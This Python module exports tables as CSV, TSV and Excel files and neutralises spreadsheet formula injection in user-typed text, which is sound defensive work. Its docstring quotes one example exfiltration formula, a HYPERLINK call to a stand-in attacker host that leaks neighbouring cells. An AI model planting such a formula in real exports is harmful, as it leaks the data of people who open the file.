"""Tables as files (CSV, TSV, Excel) that a spreadsheet opens as data, never as formulas.

Text people typed (ANS evidence, saved-cohort names, alert descriptions, display names,
cells of an imported matrix) reaches these files. A spreadsheet runs a CSV field that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a formula
(``=HYPERLINK("http://evil.example/?leak="&A2, ...)`` leaks the neighbouring cells), so:

* CSV/TSV: such a field, unless it is a number, gets a leading apostrophe (the usual
  defence; the spreadsheet shows the text as typed);
* Excel: every text value is written as a string cell, never a formula (nor an error
  code such as ``#N/A``); characters XML cannot hold are dropped instead of failing.

Every table file of the pages (``download_table``), the CLI (``emit_rows``) and the exports
is written here; ``tests/test_lint.py`` checks that no other module writes CSV or Excel (the
blank import template of ``data_access.alliance.tracking_matrix`` holds only fixed text). The
intake workbooks (``exports.intake_workbook``) lay out their sheets themselves and put every
value through :func:`xlsx_cell`, :func:`set_xlsx_value` and :func:`csv_line`.
"""

from __future__ import annotations

import datetime as dt
import io
import itertools
import numbers
import re
from collections.abc import Iterable, Mapping, Sequence

import pandas as pd
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Font

# What a spreadsheet reads as the start of a formula (the full-width forms too: some
# spreadsheets normalise them to their ASCII counterparts).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# A number as text, possibly signed and formatted ("-5", "+57 300", "-1.234,5", "-12,5 %", "-$ 1.000"):
# no letters, operators, quotes nor parentheses, so nothing a spreadsheet could run.
_NUMBER = re.compile(r"[+-]?[$ \u00a0]*\d[\d.,\u00a0 ]*%?")


def inert_text(text: str) -> str:
    """``text`` safe as a CSV/TSV field: a leading apostrophe when a spreadsheet would read
    it as a formula; numbers (``-5``) and any other text are returned unchanged."""
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def inert(value):
    """A CSV/TSV value: text through :func:`inert_text`, anything else (numbers, dates, None) as is."""
    return inert_text(value) if isinstance(value, str) else value


def csv_field(value, sep: str = ",") -> str:
    """One CSV/TSV field: empty for a missing value, text :func:`inert`, quoted when it holds
    the separator, a quote or a line break (a bare carriage return too: a spreadsheet starts
    a new row there, and the text after it would be read as a new first cell)."""
    if value is None or value is pd.NaT or value is pd.NA or (isinstance(value, float) and value != value):
        return ""
    text = inert_text(value) if isinstance(value, str) else str(value)
    if sep in text or '"' in text or "\r" in text or "\n" in text:
        return '"' + text.replace('"', '""') + '"'
    return text


def _csv(header: Iterable, rows: Iterable[Iterable], sep: str) -> str:
    out = io.StringIO()
    for row in itertools.chain([header], rows):
        out.write(sep.join(csv_field(v, sep) for v in row))
        out.write("\n")
    return out.getvalue()


def csv_text(df: pd.DataFrame, sep: str = ",") -> str:
    """The frame as CSV (TSV with ``sep="\\t"``) text: header row, no index, every field inert."""
    return _csv(df.columns, df.itertuples(index=False, name=None), sep)


def csv_bytes(df: pd.DataFrame, sep: str = ",") -> bytes:
    """The frame as a CSV download: UTF-8 with BOM, so Excel reads the accents."""
    return csv_text(df, sep).encode("utf-8-sig")


def rows_csv_text(rows: Iterable[Mapping], columns: Sequence[str], sep: str = ",") -> str:
    """Rows (dicts; keys outside ``columns`` ignored) as CSV/TSV text with a header, every field inert."""
    return _csv(columns, ([row.get(c) for c in columns] for row in rows), sep)


def _xlsx_value(ws, value):
    """A value openpyxl writes as data: text as a string cell, never a formula or error code."""
    if value is None or value is pd.NaT:
        return None
    if isinstance(value, str):
        text = ILLEGAL_CHARACTERS_RE.sub("", value)
        if text.startswith("=") or text in ERROR_CODES:
            cell = WriteOnlyCell(ws, value=text)
            cell.data_type = "s"
            return cell
        return text
    if isinstance(value, numbers.Number) and not isinstance(value, complex):  # int, float, Decimal, numpy
        return None if value != value else value  # NaN: an empty cell
    if isinstance(value, pd.Timestamp):
        value = value.to_pydatetime()
    if isinstance(value, dt.datetime):
        return value.replace(tzinfo=None)  # Excel has no time zones
    if isinstance(value, dt.date | dt.time):
        return value
    try:
        if pd.isna(value):
            return None
    except (TypeError, ValueError):
        pass
    return _xlsx_value(ws, str(value))


def xlsx_bytes(df: pd.DataFrame, sheet: str = "datos") -> bytes:
    """The frame as an Excel workbook (one sheet, bold header row, no index): numbers and
    dates as such, every text value as a string cell."""
    wb = Workbook(write_only=True)
    ws = wb.create_sheet(title=sheet[:31])
    bold = Font(bold=True)
    header = []
    for c in df.columns:
        cell = WriteOnlyCell(ws, value=ILLEGAL_CHARACTERS_RE.sub("", str(c)))
        cell.data_type = "s"
        cell.font = bold
        header.append(cell)
    ws.append(header)
    for row in df.itertuples(index=False, name=None):
        ws.append([_xlsx_value(ws, v) for v in row])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def xlsx_cell(ws, value, number_format: str | None = None):
    """One value for ``ws.append`` of a write-only sheet, as data (text a string cell, never a
    formula or error code); with ``number_format`` (a date's ``DD/MM/YYYY``) a styled cell."""
    value = _xlsx_value(ws, value)
    if number_format is None or value is None:
        return value
    cell = value if isinstance(value, Cell) else WriteOnlyCell(ws, value=value)
    cell.number_format = number_format
    return cell


def set_xlsx_value(cell, value) -> None:
    """Put ``value`` into a cell of a loaded (not write-only) workbook as data: text as a string
    cell even when it starts with ``=`` or reads as an error code."""
    value = _xlsx_value(None, value)
    if isinstance(value, Cell):
        value = value.value
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"


def csv_line(values: Iterable, sep: str = ",") -> str:
    """One CSV/TSV line (with its line break), every field :func:`csv_field` (inert, quoted when needed)."""
    return sep.join(csv_field(v, sep) for v in values) + "\n"
